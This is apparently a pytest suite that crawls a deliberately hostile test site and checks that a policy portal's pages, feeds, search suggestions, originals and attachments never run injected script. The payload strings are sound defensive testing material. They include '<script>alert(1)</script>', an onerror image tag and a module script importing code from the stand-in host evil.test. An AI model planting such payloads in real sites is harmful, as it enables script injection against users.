"""A night over a hostile site, and what of it reaches pages, feeds, files and a real browser."""

import re
from collections.abc import Iterator, Mapping
from contextlib import suppress
from dataclasses import dataclass

import httpx
import pytest
from chromium import CHROMIUM, Noted, launched, opened
from demo_portal import hide_one, serving_demo
from hostile_policies import WORD
from hostile_site import EVERYTHING, PAGES, PLAIN, hostile_site, text_of
from lxml import etree
from page_kinds import NO_REUSE, PAGE_KINDS, known_alerts, known_ids
from playwright.sync_api import Browser, Error, Page, expect
from safe_pages import pattern_of, tree
from strangers import Strangers, strangers

from benchmarks.alert_receivers import mailbox
from benchmarks.lab import night

pytestmark = pytest.mark.slow

# Pages whose raw string swallows all that comes after it, or that are nothing but it, may be lost.
LEAST = 0.9
# Every so many of the originals is opened.
STEP = 6
LOADING = "<script type=module>import('//evil.test/x.js')</script>"
RAN = "a script of a stranger ran"
TRAP = f"window.alert = window.print = () => console.error({RAN!r});"
# What no page of ours is made of: elements of others, attributes that act, addresses that are no web pages.
STRANGE = """() => [...document.querySelectorAll("*")].filter(one =>
  one.matches("iframe, object, embed, math, base, style, template, script:not([src^='/static/']), "
    + "svg, img:not([src^='/statistics/']), link:not([href^='/']), meta[http-equiv]")
  || [...one.attributes].some(a => a.name.startsWith("on") || a.name === "style" || a.name === "srcdoc")
  || (one.href !== undefined && !/^https?:/.test(one.href))
).map(one => one.outerHTML.slice(0, 200))"""


@dataclass(frozen=True)
class Crawled:
    """The portal over that night: what it has of pages without anything hostile, and of the others."""

    site: str
    address: str
    client: httpx.Client
    plain: list[str]
    hostile: list[str]
    ids: Mapping[str, str]


@pytest.fixture(scope="module")
def crawled(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Crawled]:
    folder = tmp_path_factory.mktemp("hostile-site")
    data = folder / "data"
    with hostile_site(folder / "sites") as site, mailbox() as letters:
        night(data, folder / "sites")
        hidden = hide_one(data)
        with (
            serving_demo(data, letters.port) as address,
            httpx.Client(base_url=address, timeout=60, limits=NO_REUSE) as client,
        ):
            items = client.get("/api/v1/policies", params={"limit": 100}).json()["items"]
            plain = [one["id"] for one in items if number_of(one["url"]) < PLAIN]
            ids = {"hidden": hidden, **known_ids(address, WORD), **known_alerts(address, letters, WORD)}
            ids["policy"] = next(one["id"] for one in items if one["title"] == WORD + EVERYTHING)
            yield Crawled(
                site, address, client, plain, [one["id"] for one in items if one["id"] not in plain], ids
            )


def number_of(url: str) -> int:
    """The number of a page of the site; that of everything comes after all others."""
    return int(url.rpartition("/a/")[2].partition(".")[0]) if "/a/" in url else PAGES


@pytest.fixture(scope="module")
def others() -> Iterator[Strangers]:
    """All that the site's addresses lead to."""
    with strangers() as found:
        yield found


@pytest.fixture(scope="module")
def browser(others: Strangers) -> Iterator[Browser]:
    """A browser for which every host that the site names is there."""
    if CHROMIUM is None:
        pytest.skip("no Chromium on this machine (Debian: apt install chromium)")
    with launched(others.rule) as one:
        yield one


@pytest.fixture
def tab(browser: Browser, crawled: Crawled, others: Strangers) -> Iterator[tuple[Page, Noted]]:
    """A tab that notes scripts of strangers; afterwards none has run and nobody was reached."""
    others.heard.clear()
    with opened(browser, crawled.address) as (page, noted):
        page.add_init_script(TRAP)
        yield page, noted
    assert noted.dialogs == []
    assert [one for one in noted.errors if RAN in one] == []
    assert others.heard == []


def test_the_traps_catch_what_the_site_does_by_itself(
    browser: Browser, crawled: Crawled, others: Strangers
) -> None:
    raw = [text_of(n, 22) for n in range(PAGES)]
    with opened(browser, crawled.site) as (page, noted):
        page.add_init_script(TRAP)
        page.goto(f"/a/{raw.index('<script/x>alert(1)</script>')}.html")
        assert [one for one in noted.errors if RAN in one] != []
        with suppress(Error):  # nothing answers there
            page.goto(f"/a/{raw.index(LOADING)}.html")
    assert any(b"evil.test" in one for one in others.heard)


def test_the_night_kept_what_a_site_sent(crawled: Crawled) -> None:
    assert PLAIN - 1 <= len(crawled.plain) <= PLAIN  # one policy is hidden
    assert len(crawled.hostile) >= LEAST * (PAGES - PLAIN)
    run = crawled.client.get("/api/v1/runs").json()
    assert run["items"][0]["command"] == "nightly"


@pytest.mark.parametrize("path", ["/policies/{}", "/policies/{}.html"])
def test_documents_of_a_hostile_site_are_made_as_others(crawled: Crawled, path: str) -> None:
    pattern = pattern_of(tree(crawled.client.get(path.format(one)).text) for one in crawled.plain)
    for one in crawled.hostile:
        answer = crawled.client.get(path.format(one))
        assert answer.status_code == 200
        assert pattern.escapes(tree(answer.text)) == []


def test_every_kind_of_page_in_a_browser(tab: tuple[Page, Noted], crawled: Crawled) -> None:
    page, noted = tab
    for kind in PAGE_KINDS:
        noted.expected = (f"status of {kind.status}",) if kind.status >= 400 else ()
        answer = page.goto(kind.path.format_map(crawled.ids))
        assert answer is not None
        assert answer.status == kind.status, kind.name
        page.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true; })")
        assert page.evaluate(STRANGE) == [], kind.name
        noted.check()


def test_a_document_of_all_strings_shows_them(tab: tuple[Page, Noted], crawled: Crawled) -> None:
    page, _ = tab
    page.goto(f"/policies/{crawled.ids['policy']}?file=1")
    expect(page.locator("h1")).to_have_text(f"{WORD}{EVERYTHING}")
    text = page.locator("main").text_content() or ""
    assert "<script>alert(1)</script>" in text and "<img src=x onerror=alert(1)>" in text


def test_results_and_feeds_of_a_hostile_site(tab: tuple[Page, Noted], crawled: Crawled) -> None:
    page, noted = tab
    page.goto(f"/search?q={WORD}&size=100")
    assert page.locator(".results li").count() == min(100, len(crawled.plain + crawled.hostile))
    assert page.evaluate(STRANGE) == []
    noted.check()
    feed = crawled.client.get("/feeds/atom", params={"q": WORD, "size": 100})
    found = etree.fromstring(feed.content).findall("{http://www.w3.org/2005/Atom}entry")
    assert len(found) == len(crawled.plain + crawled.hostile)


def test_suggestions_are_text(tab: tuple[Page, Noted], crawled: Crawled) -> None:
    page, noted = tab
    typed, offered = an_offer(crawled.client)
    page.goto("/")
    page.locator("input[name=q]").fill(typed)
    expect(page.get_by_role("option").filter(has_text=offered).first).to_be_visible()
    page.keyboard.press("ArrowDown")
    assert page.locator("[role=listbox] :not(li, span)").count() == 0
    assert page.evaluate(STRANGE) == []
    noted.check()


def an_offer(client: httpx.Client) -> tuple[str, str]:
    """A beginning of a title, and a tag that an offer for it holds."""
    for one in client.get("/api/v1/policies", params={"q": WORD, "limit": 100}).json()["items"]:
        if tag := re.search("<(script|img|svg)", one["title"]):
            typed = one["title"][: tag.end()]
            offers = client.get("/api/v1/suggest", params={"q": typed, "limit": 8}).json()["items"]
            if any(tag[0] in offer["text"] for offer in offers):
                return typed, tag[0]
    raise AssertionError("nothing hostile is offered")


def test_originals_of_a_hostile_site_do_nothing_in_a_browser(
    tab: tuple[Page, Noted], crawled: Crawled
) -> None:
    page, _ = tab
    for one in crawled.hostile[::STEP]:
        answer = page.goto(f"/policies/{one}/original")
        assert answer is not None
        assert answer.headers["content-security-policy"].startswith("sandbox;")
        assert page.url == f"{crawled.address}/policies/{one}/original"


def test_files_of_a_hostile_site_are_shown_as_text_or_saved(crawled: Crawled) -> None:
    seen = 0
    for one in crawled.hostile:
        for n, file in enumerate(crawled.client.get(f"/api/v1/policies/{one}").json()["attachments"], 1):
            answer = crawled.client.get(f"/policies/{one}/files/{n}")
            if answer.status_code == 200:
                seen += 1
                assert answer.headers["content-security-policy"].startswith("sandbox;")
                shown = answer.headers["content-disposition"] == "inline"
                assert not shown or answer.headers["content-type"].startswith(("text/plain", "text/html")), (
                    file
                )
    assert seen
